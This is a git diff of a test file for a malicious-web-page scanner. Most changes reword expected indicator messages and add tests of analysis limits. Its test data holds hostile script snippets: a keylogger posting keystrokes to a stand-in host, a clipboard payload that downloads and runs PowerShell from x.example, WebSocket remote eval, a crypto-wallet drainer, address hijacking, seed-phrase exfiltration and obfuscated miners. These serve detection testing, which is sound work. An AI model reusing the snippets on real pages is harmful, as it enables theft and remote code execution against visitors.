@@ -3,18 +3,18 @@ import fc from 'fast-check';
 import { afterAll, afterEach, describe, expect, test } from 'vitest';
 import { type Page, type PageInit, pageSchema } from '../src/core/page.ts';
 import type { Emission } from '../src/core/scanner.ts';
-import { judgeAddress } from '../src/scanners/page/address.ts';
+import { judgeAddress } from '../src/scanners/page/address/address.ts';
+import { judgeDomain } from '../src/scanners/page/address/domain.ts';
 import { createAnalysis } from '../src/scanners/page/analysis.ts';
-import { reveal } from '../src/scanners/page/decode.ts';
-import { judgeDocument } from '../src/scanners/page/document.ts';
-import { judgeDomain } from '../src/scanners/page/domain.ts';
+import { judgeDocument } from '../src/scanners/page/document/document.ts';
 import { createPageScanner } from '../src/scanners/page/index.ts';
 import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/layer.ts';
 import { readPage } from '../src/scanners/page/parse.ts';
-import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script-rules.ts';
-import { judgeScripts } from '../src/scanners/page/scripts.ts';
+import { reveal } from '../src/scanners/page/script/decode.ts';
+import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script/rules.ts';
+import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
+import { scanWithYara } from '../src/scanners/page/script/yara.ts';
 import { judge as judgement, type Verdicts } from '../src/scanners/page/verdict.ts';
-import { scanWithYara } from '../src/scanners/page/yara.ts';
 import { collect, runScanner } from '../src/sdk/run-scanner.ts';
 import { type Manner, scannerContract } from './contracts/scanner.ts';
 import { hostile as hostileSite } from './support/hostile-site.ts';
@@ -55,17 +55,17 @@ const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 describe('the address', () => {
   test.each([
-    ['http://203.0.113.9/signin', 'has no name'],
-    ['https://www.paypal.com@evil.example/', 'is a user name'],
-    ['https://paypal.com.account-check.example/', 'begins with paypal.com'],
-    ['https://a.b.c.d.e.f.g.example.com/', '7 levels below'],
-    ['https://secure-login-update.example/', 'talks of secure, login, update'],
-    ['https://files.example/invoice.pdf.exe', 'second extension'],
-    ['https://me.duckdns.org/', 'without an address of their own'],
-    ['https://bit.ly/abc', 'only forwards'],
+    ['http://203.0.113.9/signin', 'IP address 203.0.113.9 instead of a domain name'],
+    ['https://www.paypal.com@evil.example/', 'user name that looks like a host name'],
+    ['https://paypal.com.account-check.example/', 'contains paypal.com, but belongs to'],
+    ['https://a.b.c.d.e.f.g.example.com/', '7 levels of subdomains'],
+    ['https://secure-login-update.example/', 'contains the words secure, login, update'],
+    ['https://files.example/invoice.pdf.exe', 'double extension'],
+    ['https://me.duckdns.org/', 'dynamic DNS'],
+    ['https://bit.ly/abc', 'URL shortener'],
     ['https://shop.example:4444/', 'Port 4444'],
     ['https://my-very-own-pet-shop.example/', '4 hyphens'],
-    ['https://xkqzjvwbtrn.example/', 'made by a machine'],
+    ['https://xkqzjvwbtrn.example/', 'randomly generated'],
   ])('%s: %s', (url, said) => {
     expect(texts(judgeAddress(url))).toContain(said);
   });
@@ -78,7 +78,7 @@ describe('the address', () => {
     'http://192.168.1.1/login',
     'http://localhost:3000/',
     'https://github.com/paypal/paypal-js',
-  ])('%s says nothing', (url) => {
+  ])('%s has no indicators', (url) => {
     expect(judgeAddress(url).indicators).toEqual([]);
   });
 });
@@ -87,14 +87,14 @@ describe('the domain', () => {
   test.each([
     ['https://xn--pypal-4ve.com/', 'PayPal written with letters of another alphabet'],
     ['https://xn--80ak6aa92e.com/', 'Apple written with letters of another alphabet'],
-    ['https://paypa1.com/', 'writes PayPal with digits'],
-    ['https://rnicrosoft.com/', 'writes Microsoft with digits or pairs'],
-    ['https://netfilx.com/', 'one letter away from Netflix'],
-    ['https://amazon-verify.com/', 'Amazon with words of a log-in'],
-    ['https://securepaypal.com/', 'PayPal with words of a log-in'],
-    ['https://google.xyz/', 'Google under another ending'],
-    ['https://paypal-login.github.io/', 'PayPal with words of a log-in'],
-    ['https://garden.tk/', 'where abuse is common'],
+    ['https://paypa1.com/', 'PayPal with look-alike digits'],
+    ['https://rnicrosoft.com/', 'Microsoft with look-alike digits or pairs'],
+    ['https://netfilx.com/', 'differs from Netflix by one letter'],
+    ['https://amazon-verify.com/', 'Amazon combined with words of a log-in'],
+    ['https://securepaypal.com/', 'PayPal combined with words of a log-in'],
+    ['https://google.xyz/', 'Google under another top-level domain'],
+    ['https://paypal-login.github.io/', 'PayPal combined with words of a log-in'],
+    ['https://garden.tk/', 'often abused'],
   ])('%s: %s', (url, said) => {
     expect(texts(judgeDomain(url))).toContain(said);
   });
@@ -108,18 +108,18 @@ describe('the domain', () => {
     'https://chance.com/',
     'https://stream.com/',
     'https://purchase.org/',
-  ])('%s says nothing', (url) => {
+  ])('%s has no indicators', (url) => {
     expect(judgeDomain(url).indicators).toEqual([]);
   });
 
-  test('is not judged where there is none', () => {
+  test('is not judged for an IP address', () => {
     expect(judgeDomain('http://127.0.0.1/')).toMatchObject({ judged: false });
   });
 });
 
 describe('the scripts', () => {
   test.each([
-    ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mines in the browser', 70],
+    ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mining in the browser', 70],
     [
       'a keylogger',
       'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("/x",k);k=""}})',
@@ -135,13 +135,13 @@ describe('the scripts', () => {
     [
       'a command for the clipboard',
       'b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iex(iwr http://x.example/a)")',
-      'command for the system into the clipboard',
+      'shell command to the clipboard',
       50,
     ],
     [
-      'a smuggled program',
+      'HTML smuggling',
       'const d="TVqQAAMAAAAEAAAA";const u=URL.createObjectURL(new Blob([atob(d)]));a.href=u;a.download="setup.exe";a.click()',
-      'carries a program',
+      'contains an executable',
       70,
     ],
     [
@@ -150,98 +150,98 @@ describe('the scripts', () => {
       'packed',
       10,
     ],
-    ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'brackets only', 40],
-    ['dialogs without end', 'while(true){alert("locked")}', 'dialogs without end', 50],
+    ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'JSFuck', 40],
+    ['endless dialogs', 'while(true){alert("locked")}', 'endless dialogs', 50],
     ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 70],
     [
-      'code by socket',
+      'code from a WebSocket',
       'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
-      'whatever a socket tells',
+      'receives over a WebSocket',
       50,
     ],
     [
-      'keys for a socket',
+      'keystrokes to a WebSocket',
       'const w=new WebSocket("wss://keys.example");onkeydown=document.onkeypress=e=>w.send(e.key)',
       'sends keystrokes to keys.example',
       60,
     ],
     [
-      'a swapped address',
+      'a clipboard hijacker',
       'document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain","0x1111111111111111111111111111111111111111");e.preventDefault()})',
-      'replaces the address of a wallet',
+      'replaces wallet addresses',
       70,
     ],
     [
-      'orders from afar',
+      'remote code in an icon',
       'fetch("/icon.ico").then(r=>r.text()).then(t=>{eval(atob(t.slice(90)))})',
-      'fetches something, decodes it, and runs',
+      'fetches data, decodes it and runs',
       40,
     ],
     [
-      'orders from a chain',
+      'remote code on a blockchain',
       'fetch(rpc,{body:JSON.stringify({method:"eth_call"})}).then(r=>r.json()).then(j=>eval(j.result))',
-      'from a block chain',
+      'from a blockchain',
       50,
     ],
     [
-      'a search for guards',
+      'a search for anti-virus software',
       'd.loadXML("<!DOCTYPE html SYSTEM \\"res://c:/windows/drivers/vmmouse.sys\\">")',
-      'looks for anti-virus programs',
+      'looks for anti-virus software',
       50,
     ],
     [
-      'one face for robots',
+      'cloaking for crawlers',
       'if(navigator.webdriver){document.body.textContent="ok"}else{location.replace(u)}',
-      'behaves for robots',
+      'detects crawlers',
       30,
     ],
     [
-      'windows beneath',
+      'pop-under windows',
       'onclick=()=>{const w=window.open(u);w.blur();window.focus()}',
-      'windows beneath the page',
+      'opens pop-under windows',
       20,
     ],
     [
-      'no way back',
+      'a back button trap',
       'history.pushState({},"");onpopstate=function(){location.replace("/again")}',
-      'keeps people from leaving',
+      'keeps visitors from leaving',
       30,
     ],
-    ['alarms', 'alert("Warning: 7 viruses found")', 'shouts that the computer is infected', 30],
+    ['false virus alerts', 'alert("Warning: 7 viruses found")', 'alerts that the computer is infected', 30],
     [
-      'a false update',
+      'a false browser update',
       'f.innerHTML="Your browser is out of date";a.download="Update.js"',
       'browser is out of date',
       30,
     ],
     [
-      "a stranger's program",
+      'a download from another site',
       'setTimeout(()=>{location.href="https://files.example/setup.exe"},900)',
-      'fetches a program from files.example',
+      'downloads an executable from files.example',
       50,
     ],
     [
-      'a frame unseen',
+      'a hidden frame',
       'const f=document.createElement("iframe");f.src="http://gate.tk/in.cgi?3";f.width=1;f.height=1;b.append(f)',
-      'makes a hidden frame of gate.tk',
+      'creates a hidden frame of gate.tk',
       45,
     ],
     [
-      'an address in base64',
+      'a URL in base64',
       `const s=document.createElement("script");s.src=atob("${base64('https://cdn.example/stat.js')}")`,
-      'hides that it loads code or frames from cdn.example',
+      'from cdn.example, whose address is encoded',
       45,
     ],
     [
-      'an address backwards',
+      'a reversed URL',
       `const s=document.createElement("script");s.src="${[...'https://cdn.example/stat.js'].reverse().join('')}".split("").reverse().join("")`,
-      'hides that it loads code or frames from cdn.example',
+      'from cdn.example, whose address is encoded',
       55,
     ],
     [
       'a drainer',
       'const a=await ethereum.request({method:"eth_requestAccounts"});await c.setApprovalForAll("0x1111111111111111111111111111111111111111",true);ethereum.request({method:"eth_sendTransaction"})',
-      'hand over everything',
+      'approve the transfer of all tokens',
       50,
     ],
   ])('have %s', async (_what, code, said, atLeast) => {
@@ -253,7 +253,7 @@ describe('the scripts', () => {
   test.each([
     ['a handler', '<img src=x onerror="new CoinHive.Anonymous(1)">'],
     ['a javascript: URL', '<a href="javascript:new%20CoinHive.Anonymous(1)">x</a>'],
-    ['a frame within', '<iframe srcdoc="<script>new CoinHive.Anonymous(1)</script>"></iframe>'],
+    ['the srcdoc of a frame', '<iframe srcdoc="<script>new CoinHive.Anonymous(1)</script>"></iframe>'],
     ['base64', `<script>eval(atob("${base64('new CoinHive.Anonymous(1)')}"))</script>`],
     [
       'base64 twice',
@@ -271,20 +271,20 @@ describe('the scripts', () => {
       'backslash escapes',
       `<script>x="${[...'new CoinHive.Anonymous(1)'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"</script>`,
     ],
-    ['pieces', '<script>x="new Coin"+"Hive.Anony"+"mous(1)"</script>'],
+    ['joined strings', '<script>x="new Coin"+"Hive.Anony"+"mous(1)"</script>'],
     [
       'the packer',
       `<script>eval(function(p,a,c,k,e,d){}('0 1.2(3)',4,4,'new|CoinHive|Anonymous|1'.split('|'),0,{}))</script>`,
     ],
     ['an array of strings', `<script>${stringArray(2)}</script>`],
-    ['an array of strings that is turned', `<script>${stringArray(5)}</script>`],
-    ['an array of strings in the other base64', `<script>${stringArray(3, true)}</script>`],
+    ['a rotated array of strings', `<script>${stringArray(5)}</script>`],
+    ['an array of strings in base64 with swapped case', `<script>${stringArray(3, true)}</script>`],
     [
-      'numbers under a key',
+      'numbers combined with a key',
       `<script>var q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (40 + (at % 5)))}],z="";for(var i=0;i<q.length;i++)z+=String.fromCharCode(q[i]^(40+i%5))</script>`,
     ],
     [
-      'numbers under a list of keys',
+      'numbers combined with a list of keys',
       `<script>var k=[9,8,7],q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (9 - (at % 3)))}];z=q.map((n,i)=>String.fromCharCode(n^k[i%3]))</script>`,
     ],
     [
@@ -292,12 +292,12 @@ describe('the scripts', () => {
       `<script>eval(function(p,a,c,k,e,r){}("0 1.2(3)",4,4,"new|CoinHive|Anonymous|1".split("|"),0,{}))</script>`,
     ],
     [
-      'an address that is a script',
+      'a data: URL of a script',
       `<script src="data:text/javascript;base64,${base64('new CoinHive.Anonymous(1)')}"></script>`,
     ],
   ])('are found in %s', async (_where, html) => {
     const read = page(html);
-    expect(texts(await judgeScripts(readPage(read), read))).toContain('mines in the browser');
+    expect(texts(await judgeScripts(readPage(read), read))).toContain('mining in the browser');
   });
 
   test.each([
@@ -328,11 +328,11 @@ describe('the scripts', () => {
       'a copied selection',
       'document.addEventListener("copy",e=>e.clipboardData.setData("text/plain",getSelection()+" Read more"))',
     ],
-    ['a wallet that is asked', 'p.request({method:"eth_call"}).then(r=>show(r))'],
+    ['a query of a wallet', 'p.request({method:"eth_call"}).then(r=>show(r))'],
     ['a test for robots', 'if(navigator.webdriver)metrics.robot=true'],
     ['a router', 'onpopstate=()=>render(location.pathname);history.pushState({},"",u)'],
     [
-      'a call on the whole screen',
+      'a video call in full screen',
       'b.onclick=()=>d.requestFullscreen();addEventListener("beforeunload",e=>{if(inCall)e.preventDefault()})',
     ],
     ['a notice', 'alert("Saved")'],
@@ -350,22 +350,22 @@ describe('the scripts', () => {
       `const table=[${Array.from({ length: 60 }, (_, at) => at)}];String.fromCharCode(table[3]^(40+i%5))`,
     ],
     [
-      'a bundle that has all words of a key logger in several parts',
+      'a bundle with all words of a keylogger in different parts',
       `on("keydown",e=>{if(e.key==="k")open()});${'function f(a,b){return a*b+1}'.repeat(80)}n+=e.key;${'function f(a,b){return a*b+1}'.repeat(80)}fetch("/api")`,
     ],
     ['data', '</script><script type="application/json">{"x":"new CoinHive.Anonymous(1)"}'],
-  ])('of %s say nothing', async (_what, code) => {
+  ])('of %s have no indicators', async (_what, code) => {
     expect((await scriptsOf(code)).indicators).toEqual([]);
   });
 
-  test('that hide harmless code are SUSPICIOUS at most', async () => {
+  test('that obfuscate harmless code are SUSPICIOUS at most', async () => {
     const names = Array.from({ length: 60 }, (_, at) => `_0x${(0x4a00 + at).toString(16)}`);
     const code = `eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));eval(atob("${base64('render(document.body)')}"));${names.map((name) => `var ${name}=1;`).join('')}`;
     const { assessment } = await verdictOn(page(`<p>hello</p><script>${code}</script>`));
     expect(assessment.threatLevel).toBe('SUSPICIOUS');
   });
 
-  test('that are decoded stay where they were', () => {
+  test('keep the place of decoded literals', () => {
     expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(atob("hello there"))');
     expect(reveal('var picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"').hidden).toBe('');
   });
@@ -375,23 +375,23 @@ describe('YARA', () => {
   const rules =
     'rule whole { condition: true } rule some { strings: $a = "eval(" private $b = /eval\\(/ private condition: any of them }';
 
-  test('says which rules match', async () => {
+  test('returns the rules that match', async () => {
     expect(await scanWithYara('x eval(y)', rules, 'whole')).toEqual(new Set(['some']));
     expect(await scanWithYara('x', rules, 'whole')).toEqual(new Set());
   });
 
-  test('says so when a text is too much for it, and is fit for the next', async () => {
+  test('rejects a text that exceeds its memory, and can scan the next one', async () => {
     await expect(scanWithYara('eval('.repeat(500_000), rules, 'whole')).rejects.toThrow();
     expect(await scanWithYara('eval(', rules, 'whole')).toEqual(new Set(['some']));
   });
 
-  test('refuses rules that it cannot read, and takes ours', async () => {
+  test('rejects invalid rules, and accepts those of the scanner', async () => {
     await expect(scanWithYara('x', 'rule x {', 'whole')).rejects.toThrow('syntax error');
     expect(await scanWithYara('x', SCRIPT_RULES_SOURCE, COMPLETE)).toEqual(new Set());
   });
 });
 
-/** A miner whose words are in an array that was turned. */
+/** A miner with its strings in a rotated array. */
 function stringArray(turn: number, otherCase = false): string {
   const words = ['createElement', 'div', 'body', 'appendChild', 'CoinHive', 'Anonymous', 'log'];
   const encode = (word: string) => {
@@ -404,16 +404,16 @@ function stringArray(turn: number, otherCase = false): string {
   return `var _0x1a2b=[${turned}];(function(a,n){while(n--)a.push(a.shift())})(_0x1a2b,${turn});var _0x2b3c=function(i){return atob(_0x1a2b[i-0])};document[${call('createElement')}](${call('div')});document[${call('body')}][${call('appendChild')}](x);new window[${call('CoinHive')}][${call('Anonymous')}](1);console[${call('log')}](1)`;
 }
 
-describe('a script that repeats what the rules look for', () => {
+describe('a script that repeats the words of rules', () => {
   test.each([
     ['words of many rules', 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'],
     ['recorders of keys', 'keydown;k+=e.key;fetch(k);'],
-    ['alarms', 'alert("'],
+    ['false virus alerts', 'alert("'],
     ['pipes', 'curl '],
     ['addresses', 'fetch("https://x.example/");document.forms;keydown;'],
     ['arrays', "var _0xaaaa=['ZGl2','Ym9keQ==','ZGl2','Ym9keQ==','ZGl2'];document[_0xbbbb('0x2')];"],
     ['numbers', `[${'1,'.repeat(30)}1];String.fromCharCode(q[i]^(61+i%7));`],
-  ])('%s is read to its end soon, or not judged', async (_what, unit) => {
+  ])('%s: is read to its end within 10 s, or not judged', async (_what, unit) => {
     const code = unit.repeat(2_800_000 / unit.length);
     const content = { ...readPage(page('<p>x</p>')), inline: [{ text: code, event: null }] };
     const start = performance.now();
@@ -423,12 +423,12 @@ describe('a script that repeats what the rules look for', () => {
     const mined = { ...content, inline: [{ text: `${code}\nnew CoinHive.Anonymous(1)`, event: null }] };
     if (verdict?.judged) {
       expect(texts(await judgeScripts(mined, { html: '', inlineScripts: [] }))).toContain(
-        'mines in the browser',
+        'mining in the browser',
       );
     }
   });
 
-  test('is not judged when more of it is hidden than is looked at', async () => {
+  test('is not judged when it has more encoded literals than are decoded', async () => {
     const verdict = await scriptsOf(`x=[${`"${base64('var harmless = 1;')}",`.repeat(25_000)}]`);
     expect(verdict.judged).toBe(false);
   });
@@ -481,67 +481,65 @@ describe('the flow of data', () => {
 
   test.each([
     ['to the own site', 'fetch("/login",{body:pw.value});fetch("https://stats.example/?page=1")'],
-    ['that is only looked at', 'if(pw.value.length<12)fetch("https://stats.example/?short=1")'],
+    ['that is only tested', 'if(pw.value.length<12)fetch("https://stats.example/?short=1")'],
     ['of another field', 'fetch("https://search.example/?q="+document.querySelector("[name=email]").value)'],
     [
-      'beside a word',
+      'near words of secrets',
       'var pass=1,seed=2,recovery=3;document.querySelector("h1").value;fetch("https://stats.example/",{body:pass+seed})',
     ],
     [
-      'whose answer is reported',
+      'whose response is reported',
       'fetch("/login",{body:pw.value}).then(r=>fetch("https://stats.example/?s="+r.status))',
     ],
-  ])('%s says nothing', async (_what, code) => {
+  ])('%s: has no indicators', async (_what, code) => {
     expect((await flowOf(`${login}<script>${code}</script>`)).indicators).toEqual([]);
   });
 
-  test('names what is read and where it goes', async () => {
+  test('names the data and its destination', async () => {
     const { indicators } = await flowOf(
       `${seed}<script>fetch("https://sink.example/",{body:document.all.seed.value||document.getElementById("seed").value})</script>`,
     );
     expect(indicators).toContainEqual({
       points: 72,
-      text: 'A script reads the secret words of a wallet and sends them to sink.example.',
+      text: 'A script reads the recovery phrase of a wallet and sends it to sink.example.',
       threat: 'phishing',
     });
   });
 
-  test('is told from what is typed into fields that a script writes', async () => {
+  test('is followed from fields that a script writes', async () => {
     const code =
       'b.innerHTML=\'<input id="n" autocomplete="cc-number">\';navigator.sendBeacon("https://sink.example/",document.getElementById("n").value)';
     expect(texts(await flowOf(`<div id="b"></div><script>${code}</script>`))).toContain('reads card data');
   });
 
-  test('into code that cannot be read makes a page SUSPICIOUS', async () => {
+  test('from encrypted text into code makes a page SUSPICIOUS', async () => {
     const code = `var k="${bytes.toString('base64')}",r="";for(var i=0,b=atob(k);i<b.length;i++)r+=String.fromCharCode(b.charCodeAt(i)^name.length*i&255);new Function(r)()`;
     const { assessment } = await verdictOn(page(`<p>Roses</p><script>${code}</script>`));
     expect(assessment).toMatchObject({ threatLevel: 'SUSPICIOUS' });
   });
 
-  test('of a picture in base64 says nothing', async () => {
+  test('of an image in base64: has no indicators', async () => {
     const code = `document.querySelector("img").src="data:image/png;base64,${bytes.toString('base64')}";var table="${bytes.toString('base64')}";draw(atob(table))`;
     expect((await flowOf(`<img><script>${code}</script>`)).indicators).toEqual([]);
   });
 });
 
-describe('escapes of punctuation in HTML that a script writes', () => {
+describe('escaped punctuation in HTML that a script writes', () => {
   const written = (html: string) =>
     scriptsOf(
       `document.write(unescape("${html.replace(/[<>" ]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)}"))`,
     );
 
-  test('are judged as if they were written plainly', async () => {
+  test('is judged as if it were not escaped', async () => {
     expect((await written('<script src="https://tags.example/a.js"></script>')).indicators).toEqual([]);
     expect(
       texts(await written('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')),
-    ).toContain('for mining');
-    expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain(
-      'bare address',
-    );
+    ).toContain('a service for mining');
+    expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain('IP address');
   });
 });
 
-describe('what cannot be read', () => {
+describe('unreadable content', () => {
   const noise = (length: number, from = 33, to = 126) =>
     Array.from({ length }, (_, at) =>
       String.fromCharCode(from + ((at * 7919 + ((at * at) % 251)) % (to - from))),
@@ -575,12 +573,12 @@ describe('what cannot be read', () => {
       'a module',
       '<p>Roses</p><script type="module">import a from "./a.js";export default await a()</script>',
     ],
-  ])('is told from %s', async (_what, html) => {
+  ])('does not include %s', async (_what, html) => {
     const { assessment, warnings } = await verdictOn(page(html));
     expect({ level: assessment.threatLevel, warnings }).toEqual({ level: 'BENIGN', warnings: [] });
   });
 
-  test('is reported when it is a small part of the page, whose verdict stands', async () => {
+  test('is reported when it is a small part of the page, and the verdict stands', async () => {
     const { assessment, warnings } = await verdictOn(
       page(`<p>Roses</p><script>${'render(1);'.repeat(300)}</script><script>broken(</script>`),
     );
@@ -606,28 +604,146 @@ describe('a bound that is reached', () => {
   });
 });
 
+describe('content over former limits', () => {
+  const filler = '<p onclick="a()">x</p>'.repeat(250);
+
+  test('an event handler after 250 others is read', () => {
+    const html = `<h1>Your browser is out of date</h1>${filler}<b onclick="location='/u.exe'">Update</b>`;
+    expect(texts(documentOf(html))).toContain('offers an executable');
+  });
+
+  test('all links of a page are counted', () => {
+    const own = '<a href="/a">a</a>'.repeat(1900);
+    const foreign = '<a href="https://bank.example/">a</a>'.repeat(8000);
+    const html = `${own}${foreign}<form><input type="password" name="p"></form>`;
+    expect(texts(documentOf(html))).toContain('Nearly all links lead to bank.example');
+  });
+
+  test('instructions after 150,000 characters of hidden text are read', () => {
+    const html = `<h1>Verify you are human</h1><div style="display:none"><p>${'Roses. '.repeat(22_000)}</p><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>`;
+    expect(texts(documentOf(html))).toContain('paste a command into the system');
+  });
+
+  test('a password field after 150 other fields, and references of a foreign base URL, are judged', async () => {
+    const html = `<base href="http://192.0.2.7/"><form>${'<input name="q">'.repeat(150)}<input type="password"></form><script src="x.js"></script>`;
+    const { assessment } = await verdictOn(page(html, 'http://www.garden.example/'));
+    const network = assessment.layers?.find(({ name }) => name === 'network');
+    expect(network?.indicators).toContain('The page asks for a password over http.');
+    expect(network?.indicators).toContain('The page loads scripts from the IP address 192.0.2.7.');
+  });
+
+  test('code after 61,000 character codes is decoded', async () => {
+    const codes = [...`${' '.repeat(61_000)}new CoinHive.Anonymous(1)`].map((letter) => letter.charCodeAt(0));
+    expect(texts(await scriptsOf(`eval(String.fromCharCode(${codes}))`))).toContain('mining in the browser');
+  });
+});
+
+describe('a limit of the analysis of scripts', () => {
+  const fields = '<form><input type="password" id="pw"></form>';
+  const chain = Array.from({ length: 9 }, (_, at) => `var a${at};function f${at}(){a${at}=a${at + 1}}`);
+  const packer = (payload: string) =>
+    `eval(function(p,a,c,k,e,d){return p}('${payload}',2,2,'f|1'.split('|'),0,{}));`;
+  const encodedArray = (size: number) =>
+    `var _0x1a2b=[${Array.from({ length: size }, () => `'${base64('createElement')}'`)}];${"document[_0x2b3c('0x1')];".repeat(12)}`;
+  const keyed = (size: number) => `q=[${'1,'.repeat(size - 1)}1];String.fromCharCode(q[i]^(61+i%7));`;
+
+  test.each([
+    [
+      'obfuscation',
+      'indicators of one kind',
+      2,
+      `${packer('0')}eval(atob("${base64('render(1)')}"));${Array.from({ length: 25 }, (_, at) => `var _0x${4096 + at}=1;`).join('')}`,
+    ],
+    [
+      'code that is run',
+      'effects of the data flow',
+      20,
+      Array.from({ length: 520 }, (_, at) => `eval("render(${at + 1000})");`).join(''),
+    ],
+    ['passes', 'passes of the data flow', 1, `${chain.join('')}var a9=pw.value`],
+    [
+      'a long selector',
+      'characters of selectors',
+      1,
+      `document.querySelector("${'.rose '.repeat(100)}").value`,
+    ],
+    ['a long script that decodes', 'scripts in the data flow', 1, `eval(atob(x));${'a=b+c;'.repeat(40_000)}`],
+  ])('on %s is reported, and the verdict stands', async (_on, what, count, code) => {
+    const read = page(`${fields}<script>${code}</script>`);
+    const verdict = await judgeScripts(readPage(read), read);
+    expect(verdict.judged).toBe(true);
+    expect(verdict.warnings).toEqual([
+      {
+        code: 'LIMIT_REACHED',
+        message: `The scripts of the page reached a limit: ${count} more ${what} than are evaluated.`,
+        count,
+      },
+    ]);
+  });
+
+  test.each([
+    ['a packed script', 'packed scripts', 1, packer('0 '.repeat(300_000))],
+    // The restored script has the array again.
+    ['strings of an array', 'strings of encoded arrays', 200, encodedArray(4100)],
+    ['numbers of a list', 'numbers of encoded lists', 5, keyed(60_005)],
+    [
+      'keys',
+      'keys of encoded numbers',
+      14,
+      `q=[${'200,'.repeat(59_998)}200];String.fromCharCode;${'i[1]^7;'.repeat(80)}`,
+    ],
+  ])('on %s is reported, and the scripts are not judged', async (_on, what, count, code) => {
+    const verdict = await scriptsOf(code);
+    expect(verdict).toMatchObject({ judged: false, reason: expect.stringContaining(what) });
+    expect(verdict.warnings).toContainEqual({
+      code: 'LIMIT_REACHED',
+      message: expect.stringContaining(`${count} more ${what}`),
+      count,
+    });
+  });
+
+  test.each(['apply(x)', 'call(x)', 'new apply(x)'])(
+    '%s of an unknown function can be followed',
+    async (code) => {
+      expect(await scriptsOf(`${code};new CoinHive.Anonymous(1)`)).toMatchObject({ judged: true });
+    },
+  );
+});
+
+test('brands in a host name over the two that count are reported', () => {
+  const url = 'https://paypal.com.amazon.com.netflix.com.garden.example/';
+  const { warnings } = judgeAddress(url, url);
+  expect(warnings).toEqual([
+    { code: 'LIMIT_REACHED', message: expect.stringContaining('indicators of one kind'), count: 2 },
+  ]);
+});
+
 describe('the document', () => {
   const login = (action: string, more = '') =>
     `<title>Members</title>${more}<form action="${action}"><input name="user"><input type="password" name="p"></form>`;
 
   test.each([
-    ['another domain', login('https://collector.example/x.php'), 'which is not of garden.example'],
-    ['a bare address', login('http://203.0.113.9/x'), 'bare address 203.0.113.9'],
+    ['another domain', login('https://collector.example/x.php'), 'which does not belong to garden.example'],
+    ['an IP address', login('http://203.0.113.9/x'), 'IP address 203.0.113.9'],
     ['no encryption', login('http://www.garden.example/x'), 'without encryption'],
     ['a mail address', login('mailto:me@evil.example'), 'sent by mail'],
     ['a Telegram bot', login('https://api.telegram.org/bot1:a/sendMessage'), 'Telegram bot'],
-    ['a collector', login('https://formspree.io/f/abc'), 'forwards it to anybody'],
-    ['a turned base', login('x', '<base href="https://evil.example/">'), 'turned to evil.example'],
-    ['a brand', login('').replace('Members', 'PayPal - Log in'), 'The title says PayPal'],
+    ['a collector', login('https://formspree.io/f/abc'), 'forwards forms to anybody'],
+    [
+      'a foreign base URL',
+      login('x', '<base href="https://evil.example/">'),
+      'base URL of the page leads its relative references to evil.example',
+    ],
+    ['a brand', login('').replace('Members', 'PayPal - Log in'), 'The title is that of PayPal'],
     [
       "a brand's icon",
       login('', '<link rel="icon" href="https://www.paypal.com/favicon.ico">'),
-      'icon is that of',
+      'icon of the page is loaded from',
     ],
     [
-      'a hurry',
+      'urgency',
       login('', 'Your account has been suspended. Verify your identity within 24 hours.'),
-      'presses for time',
+      'creates urgency',
     ],
     [
       'dead links',
@@ -637,32 +753,32 @@ describe('the document', () => {
     [
       'a wallet',
       '<h1>Enter your recovery phrase</h1><form><textarea name="words"></textarea></form>',
-      'secret words',
+      'recovery phrase',
     ],
     [
       'a hidden frame',
       '<iframe src="http://203.0.113.9/a" width="1" height="1"></iframe>',
-      'hidden frame loads from the bare',
+      'hidden frame loads from the IP address',
     ],
     [
       'clickjacking',
       '<iframe src="https://bank.example/pay" style="opacity:0;position:absolute;width:100%"></iframe>',
-      'clickable and not to be seen',
+      'transparent frame of',
     ],
-    ['a forward', '<meta http-equiv="refresh" content="0;url=https://evil.tk/x">', 'forwards to evil.tk'],
+    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.tk/x">', 'redirects to evil.tk'],
     [
-      'a paste',
+      'a command to paste',
       'Verify you are human. Press Win + R, then Ctrl + V and Enter.',
-      'paste something into the system',
+      'paste a command into the system',
     ],
     [
       'a hotline',
       'WARNING: virus detected on your computer. Do not close. Call Windows support +1 (888) 555-0100',
       'number to call',
     ],
-    ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers a program'],
+    ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers an executable'],
     [
-      'a doubling',
+      'a doubling scam',
       '<h1>Giveaway</h1><p>Send 0.1 to 5 BTC and get twice as much back. 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>',
       'more money back',
     ],
@@ -672,45 +788,45 @@ describe('the document', () => {
       'promises profits',
     ],
     [
-      'a guard switched off',
+      'a request to disable the anti-virus software',
       '<p>Disable your antivirus before you install.</p><a href="/setup.zip">Get it</a>',
-      'switch off what protects',
+      'disable security software',
     ],
     [
-      'a crack',
+      'cracked software',
